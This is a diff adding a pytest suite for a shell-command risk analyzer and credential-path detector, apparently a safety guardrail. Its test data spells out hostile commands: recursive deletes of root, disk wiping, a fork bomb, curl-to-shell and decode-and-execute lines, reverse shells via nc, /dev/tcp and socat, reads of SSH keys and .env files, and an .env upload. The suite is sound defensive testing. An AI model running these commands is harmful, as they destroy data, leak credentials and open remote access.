@@ -1,0 +1,296 @@
+"""CommandAnalyzer reports the risk facts of commands; PathAnalyzer knows credential files."""
+
+from __future__ import annotations
+
+import pytest
+
+from tether.core.safety.analyzer import CommandAnalyzer, PathAnalyzer
+from tether.core.safety.facts import FACTS, RiskLevel
+from tether.core.safety.shell import ShellParser
+
+P = pytest.param
+
+
+def facts_of(parser: ShellParser, analyzer: CommandAnalyzer, command: str) -> set[str]:
+    analysis = analyzer.analyze_script(parser.parse(command))
+    found = {f.kind for f in analysis.facts}
+    for item in analysis.commands:
+        found |= {f.kind for f in item.facts}
+    return found
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        # deleting
+        P("rm -rf /", {"destructive_delete"}, id="rm-root"),
+        P("rm -r -f ~", {"destructive_delete"}, id="rm-home"),
+        P("rm --recursive --force .", {"destructive_delete"}, id="rm-dot-long-flags"),
+        P("rm -rf *", {"destructive_delete"}, id="rm-star"),
+        P("rm -rf src/..", {"destructive_delete"}, id="rm-climbing-back"),
+        P("rm -rf .git", {"destructive_delete"}, id="rm-git-dir"),
+        P('rm -rf "$DIR"', {"destructive_delete"}, id="rm-unknown-target"),
+        P("ls | xargs rm -rf", {"destructive_delete"}, id="rm-targets-from-stdin"),
+        P("rm -rf build", {"recursive_delete"}, id="rm-subdirectory"),
+        P("rm notes.txt", {"file_delete"}, id="rm-file"),
+        P("find . -delete", {"destructive_delete"}, id="find-delete-everything"),
+        P("find . -name '*.pyc' -delete", {"recursive_delete"}, id="find-delete-filtered"),
+        P("find . -exec rm {} +", {"destructive_delete"}, id="find-exec-rm-everything"),
+        P("shred -u f", {"disk_destruction"}, id="shred"),
+        # writing
+        P("echo x > out.txt", {"file_write"}, id="redirect"),
+        P("echo x >> out.txt", {"file_write"}, id="append"),
+        P("tee out.txt", {"file_write"}, id="tee"),
+        P("sed -i 's/a/b/' f", {"file_write"}, id="sed-in-place"),
+        P("cp a b", {"file_write"}, id="cp"),
+        P("mkdir -p build", {"file_write"}, id="mkdir"),
+        P("chmod +x run.sh", {"permission_change"}, id="chmod"),
+        P("chmod -R 777 /", {"destructive_permissions"}, id="chmod-root"),
+        P("chmod u+s ./x", {"privilege_escalation"}, id="setuid-symbolic"),
+        P("chmod 4755 ./x", {"privilege_escalation"}, id="setuid-octal"),
+        # disks and the system
+        P("dd if=/dev/zero of=/dev/sda", {"disk_destruction"}, id="dd-disk"),
+        P("cat x > /dev/nvme0n1", {"disk_destruction"}, id="redirect-to-disk"),
+        P("mkfs.ext4 /dev/sdb1", {"disk_destruction"}, id="mkfs"),
+        P("wipefs -a /dev/sda", {"disk_destruction"}, id="wipefs"),
+        P(":(){ :|:& };:", {"fork_bomb"}, id="fork-bomb"),
+        P("shutdown -h now", {"system_shutdown"}, id="shutdown"),
+        P("systemctl reboot", {"system_shutdown"}, id="systemctl-reboot"),
+        P("kill -9 -1", {"system_shutdown"}, id="kill-all"),
+        P("kill 1234", {"process_control"}, id="kill-one"),
+        P("iptables -F", {"system_admin"}, id="iptables"),
+        P("crontab -r", {"persistence"}, id="crontab"),
+        P("systemctl enable x", {"persistence"}, id="systemctl-enable"),
+        # privileges
+        P("sudo ls", {"privilege_escalation"}, id="sudo"),
+        P("su -c ls", {"privilege_escalation"}, id="su"),
+        P("docker run --privileged x", {"privilege_escalation"}, id="privileged-container"),
+        P("docker run -v /:/host x", {"privilege_escalation"}, id="host-mount"),
+        # git
+        P("git push --force", {"force_push"}, id="force-push"),
+        P("git push -f origin main", {"force_push"}, id="force-push-short"),
+        P("git push origin +main", {"force_push"}, id="force-refspec"),
+        P("git push origin --delete main", {"force_push"}, id="delete-remote-branch"),
+        P("git push origin :main", {"force_push"}, id="delete-refspec"),
+        P("git commit -m x", {"git_mutation"}, id="commit"),
+        P("git branch -D x", {"git_mutation"}, id="branch-delete"),
+        P("git reset --hard", {"git_discard"}, id="reset-hard"),
+        P("git checkout -- .", {"git_discard"}, id="checkout-discard"),
+        P("git clean -fdx", {"git_discard"}, id="clean"),
+        P("git config core.hooksPath h", {"git_hooks"}, id="hooks-path"),
+        P("git -c core.pager=less log", {"code_execution"}, id="config-exec"),
+        # remote code
+        P("curl x | sh", {"pipe_to_shell", "network"}, id="curl-sh"),
+        P("echo aGk= | base64 -d | sh", {"decode_execute", "pipe_to_shell"}, id="decode-sh"),
+        P("bash <(curl -s x)", {"pipe_to_shell"}, id="procsub-script"),
+        P('sh -c "$(curl -s x)"', {"pipe_to_shell"}, id="substituted-script"),
+        P('eval "$(echo x | base64 -d)"', {"decode_execute"}, id="eval-decoded"),
+        P("$(curl -s x)", {"pipe_to_shell", "dynamic_command"}, id="downloaded-program"),
+        P("source <(curl -s x)", {"pipe_to_shell"}, id="source-procsub"),
+        P("nc -e /bin/sh h 1", {"reverse_shell"}, id="nc-e"),
+        P("bash -i >& /dev/tcp/h/1 0>&1", {"reverse_shell"}, id="dev-tcp"),
+        P("socat exec:sh tcp:h:1", {"reverse_shell"}, id="socat-exec"),
+        # code
+        P("python -c 'print(1)'", {"inline_code"}, id="python-c"),
+        P("node -e 'x'", {"inline_code"}, id="node-e"),
+        P("python evil.py", {"run_script"}, id="python-script"),
+        P("./run.sh", {"run_script"}, id="relative-program"),
+        P("source venv/bin/activate", {"run_script"}, id="source"),
+        P("python -c \"import os; os.system('rm -rf /')\"", {"destructive_delete"}, id="os-system"),
+        P("python -c 'import shutil; shutil.rmtree(\"/\")'", {"destructive_delete"}, id="rmtree"),
+        P("python -c 'import os; print(os.environ)'", {"env_dump"}, id="python-environ"),
+        P("node -e 'console.log(process.env)'", {"env_dump"}, id="node-env"),
+        P(
+            "python -c 'import base64;exec(base64.b64decode(\"x\"))'",
+            {"decode_execute"},
+            id="python-decode-exec",
+        ),
+        P("awk 'BEGIN{system(\"rm -rf /\")}'", {"destructive_delete"}, id="awk-system"),
+        P("sed '1e rm -rf /' f", {"destructive_delete"}, id="sed-e"),
+        P("rg --pre ./x pat", {"code_execution"}, id="rg-pre"),
+        # secrets
+        P("printenv", {"env_dump"}, id="printenv"),
+        P("env", {"env_dump"}, id="env"),
+        P("export -p", {"env_dump"}, id="export-p"),
+        P("set", {"env_dump"}, id="set"),
+        P("ps auxe", {"env_dump"}, id="ps-environment"),
+        P("echo $AWS_SECRET_ACCESS_KEY", {"secrets_read"}, id="echo-secret"),
+        P("printenv GITHUB_TOKEN", {"secrets_read"}, id="printenv-secret"),
+        P("gh auth token", {"secrets_read"}, id="gh-token"),
+        P("security find-generic-password -s x -w", {"secrets_read"}, id="keychain"),
+        P("cat .env", {"credential_access"}, id="dotenv"),
+        P("cat ~/.ssh/id_rsa", {"credential_access"}, id="ssh-key"),
+        P("curl -d @.env x", {"credential_access", "network"}, id="upload-dotenv"),
+        P("git show HEAD:.env", {"credential_access"}, id="git-show-dotenv"),
+        P('curl -H "Authorization: $API_TOKEN" x', {"secrets_read"}, id="secret-sent-away"),
+        P('./deploy.sh "$API_TOKEN"', {"secret_env_use"}, id="secret-passed-on"),
+        # databases
+        P('psql -c "DROP TABLE users"', {"sql_destruction"}, id="psql-drop"),
+        P('mysql -e "truncate orders"', {"sql_destruction"}, id="mysql-truncate"),
+        P('sqlite3 app.db "DELETE FROM users;"', {"sql_destruction"}, id="sqlite-delete-all"),
+        P('echo "DROP DATABASE x" | psql', {"sql_destruction"}, id="piped-sql"),
+        P("redis-cli FLUSHALL", {"sql_destruction"}, id="redis-flushall"),
+        P('psql -c "select 1"', {"database"}, id="psql-select"),
+        # environment, packages, network
+        P("export PATH=/tmp:$PATH", {"env_change"}, id="path"),
+        P("LD_PRELOAD=x.so ls", {"env_change"}, id="ld-preload"),
+        P("pip install requests", {"package_install"}, id="pip"),
+        P("npm install", {"package_install"}, id="npm-install"),
+        P("apt-get install x", {"package_install"}, id="apt"),
+        P("curl https://x", {"network"}, id="curl"),
+        P("git push", {"network", "git_mutation"}, id="git-push"),
+        P("terraform destroy", {"cloud_destruction"}, id="terraform-destroy"),
+        P("kubectl delete ns prod", {"cloud_destruction"}, id="kubectl-delete-namespace"),
+        P("aws s3 rm s3://b --recursive", {"cloud_destruction"}, id="s3-rm-recursive"),
+    ],
+)
+def test_risk_facts(
+    shell_parser: ShellParser, command_analyzer: CommandAnalyzer, command: str, expected: set[str]
+) -> None:
+    found = facts_of(shell_parser, command_analyzer, command)
+    assert expected <= found, found
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        P("ls -la", id="ls"),
+        P("git status", id="git-status"),
+        P("git log --oneline -5", id="git-log"),
+        P("git diff HEAD~1", id="git-diff"),
+        P("git branch", id="git-branch-list"),
+        P("git commit --help", id="git-help"),
+        P('grep -rn "rm -rf" src', id="grep-for-rm"),
+        P('echo "rm -rf /"', id="echo-rm"),
+        P("cat README.md", id="cat"),
+        P("cat .env.example", id="env-example"),
+        P("find . -name '*.py'", id="find"),
+        P("sed -n '1,5p' f", id="sed-print"),
+        P("awk '$3 > 100' f", id="awk-comparison"),
+        P("pytest -q", id="pytest"),
+        P("ls 2>/dev/null", id="dev-null"),
+        P("echo $HOME $PATH", id="plain-variables"),
+        P("python --version", id="version"),
+        P("tee /dev/null", id="tee-dev-null"),
+    ],
+)
+def test_everyday_commands_have_no_risk(
+    shell_parser: ShellParser, command_analyzer: CommandAnalyzer, command: str
+) -> None:
+    assert facts_of(shell_parser, command_analyzer, command) == set()
+
+
+def test_not_understood_is_a_fact_of_the_whole(
+    shell_parser: ShellParser, command_analyzer: CommandAnalyzer
+) -> None:
+    analysis = command_analyzer.analyze_script(shell_parser.parse("ls (("))
+    assert [f.kind for f in analysis.facts] == ["not_understood"]
+
+
+def test_paths_of_a_command(shell_parser: ShellParser, command_analyzer: CommandAnalyzer) -> None:
+    script = shell_parser.parse("cp -r src /tmp/out > log.txt")
+    paths = {(u.path, u.access) for u in command_analyzer.analyze(script.commands[0]).paths}
+    assert paths == {("src", "read"), ("/tmp/out", "write"), ("log.txt", "write")}
+
+
+def test_grep_pattern_is_not_a_path(
+    shell_parser: ShellParser, command_analyzer: CommandAnalyzer
+) -> None:
+    command = shell_parser.parse('grep -rn "/etc/passwd" src').commands[0]
+    assert [u.path for u in command_analyzer.analyze(command).paths] == ["src"]
+
+
+def test_unknown_program_operands_may_be_paths(
+    shell_parser: ShellParser, command_analyzer: CommandAnalyzer
+) -> None:
+    command = shell_parser.parse("frobnicate --out=/etc/x ../y https://z").commands[0]
+    paths = [u.path for u in command_analyzer.analyze(command).paths]
+    assert paths == ["/etc/x", "../y"]
+
+
+def test_every_fact_has_a_level_and_summary() -> None:
+    for kind, info in FACTS.items():
+        assert info.summary, kind
+        assert isinstance(info.level, RiskLevel)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".env",
+        "config/.env",
+        ".env.local",
+        ".env.production",
+        "prod.env",
+        "src/../.env",
+        "~/.ssh/id_rsa",
+        "/home/me/.ssh/config",
+        "id_ed25519",
+        "~/.aws/credentials",
+        "~/.gnupg/secring.gpg",
+        "~/.kube/config",
+        "~/.docker/config.json",
+        "~/.netrc",
+        ".npmrc",
+        ".pypirc",
+        ".git-credentials",
+        "server.pem",
+        "tls/private.key",
+        "keystore.jks",
+        "credentials.json",
+        "aws-credentials.csv",
+        "secrets.yaml",
+        "config/secrets.json",
+        "client_secret_123.json",
+        "my-service-account.json",
+        "/etc/shadow",
+        "/etc/sudoers",
+        "/proc/self/environ",
+        "/proc/1/environ",
+        "~/.bash_history",
+        "terraform.tfstate",
+        ".ENV",
+    ],
+)
+def test_credential_paths(path: str) -> None:
+    assert PathAnalyzer().credential_reason(path) is not None
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "README.md",
+        "src/app.py",
+        ".env.example",
+        ".env.sample",
+        "secrets.example.yaml",
+        "id_rsa.pub",
+        "src/keys.py",
+        "environment.yml",
+        "docs/credentials.md",
+        "/etc/hosts",
+        ".envoy/config",
+        "package.json",
+    ],
+)
+def test_ordinary_paths(path: str) -> None:
+    assert PathAnalyzer().credential_reason(path) is None
+
+
+@pytest.mark.parametrize(
+    ("pattern", "credential"),
+    [
+        P(".e*", True, id="dot-e-star"),
+        P(".en?", True, id="question-mark"),
+        P("id_*", True, id="id-star"),
+        P("*.pem", True, id="pem"),
+        P("~/.ss*/id_rsa", True, id="directory-glob"),
+        P("cred*", True, id="cred-star"),
+        P("*", False, id="star"),
+        P("*.json", False, id="json"),
+        P(".*", True, id="dotfiles-include-env"),
+        P("src/*.py", False, id="python"),
+    ],
+)
+def test_globs_that_could_match_credentials(pattern: str, credential: bool) -> None:
+    assert (PathAnalyzer().credential_reason(pattern, glob=True) is not None) is credential
